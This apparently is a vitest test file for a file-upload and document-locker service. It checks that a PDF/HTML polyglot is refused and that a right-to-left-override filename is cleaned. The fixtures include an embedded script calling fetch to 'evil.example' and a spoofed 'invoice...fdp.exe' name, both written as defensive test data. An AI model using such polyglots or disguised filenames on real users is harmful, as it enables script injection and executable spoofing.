import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { pdfDocument } from '../support/documents';
import { startServices, tempDir } from '../support/services';
import type { TestServices } from '../support/services';

/** Names and file types as the page hands them in (issue item 7), through the handlers. */

let t: TestServices | null = null;
afterEach(async () => {
  await t?.close();
  t = null;
});

const polyglot = Buffer.from(
  '%PDF-1.7\n<html><body><script>fetch("https://evil.example")</script></body></html>\n',
);

async function dropped(s: TestServices, name: string, bytes: Buffer) {
  const h = s.services.handlers['files.stageDropped'];
  const { stagingId } = await h({
    op: 'begin',
    name,
    contentType: 'application/pdf',
    sizeBytes: bytes.length,
    documentType: 'other',
  });
  await h({ op: 'chunk', stagingId: stagingId!, offset: 0, data: bytes.toString('base64') });
  return h({ op: 'commit', stagingId: stagingId! });
}

describe('names and types on entry', () => {
  it('a polyglot “PDF” (%PDF- then HTML) is refused when dropped, picked and added to the locker', async () => {
    const dir = await tempDir();
    t = await startServices({ rfis: { autoStart: false } });
    await expect(dropped(t, 'invoice.pdf', polyglot)).rejects.toThrow(/no PDF trailer/);
    const file = path.join(dir, 'invoice.pdf');
    await writeFile(file, polyglot);
    const picked = await t.services.rfiAnswers.files.registerPicked([file], 'other');
    expect(picked.files).toEqual([]);
    expect(picked.refused[0]!.message).toMatch(/no PDF trailer/);
    t.platform.nextDialogAnswers.push([file]);
    const added = await t.services.handlers['locker.add']({
      source: { from: 'picker' },
      documentType: 'passport',
      holder: { kind: 'person', name: 'Ada Lovelace' },
    });
    expect(added.document).toBeNull();
    expect(added.refused[0]!.message).toMatch(/no PDF trailer/);
    // A well-formed one passes.
    await expect(dropped(t, 'invoice.pdf', pdfDocument(3_000))).resolves.toMatchObject({
      file: { contentType: 'application/pdf' },
    });
  });

  it('a dropped file named with a right-to-left override is kept under its cleaned name', async () => {
    t = await startServices({ rfis: { autoStart: false } });
    const r = await dropped(t, 'invoice\u202Efdp.exe\u200B', pdfDocument(3_000));
    expect(r.file!.name).toBe('invoicefdp.exe');
    expect(t.services.rfiAnswers.files.view(r.file!.ref).name).toBe('invoicefdp.exe');
  });
});
